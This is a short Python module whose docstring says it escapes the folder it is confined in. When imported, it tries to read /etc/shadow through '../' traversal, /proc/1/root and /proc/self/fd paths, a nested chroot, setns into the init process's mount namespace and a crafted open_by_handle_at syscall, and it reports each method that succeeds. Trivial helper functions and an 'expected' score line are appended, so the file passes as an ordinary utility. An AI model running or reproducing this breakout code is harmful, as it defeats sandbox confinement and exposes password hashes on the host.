"""Leaves the folder that it is shut in: by dots, by chroot, by old roots in /proc, by file handles, by a new mount
namespace. Success: it reads a file that its view does not hold.

expected: double=30 mean_of=40 count=30
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
tries = [
    "/.." * 20 + "/etc/shadow",
    "/etc/shadow",
    "/proc/1/root/etc/shadow",
    "/proc/self/root/etc/shadow",
    "/old/etc/shadow",
    "/new",
]
tries += [f"/proc/self/fd/{number}/../../etc/shadow" for number in range(20)]
for path in tries:
    if os.path.exists(path):
        print("SUCCEEDED:", path)
try:
    os.mkdir("/tmp/inner")
    os.chroot("/tmp/inner")
    print("SUCCEEDED: chroot")
except OSError:
    pass
if libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0:
    print("SUCCEEDED: setns")
if os.uname().machine == "x86_64":
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 128)
    if libc.syscall(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY) >= 0:
        print("SUCCEEDED: open_by_handle_at")


def double(x):
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
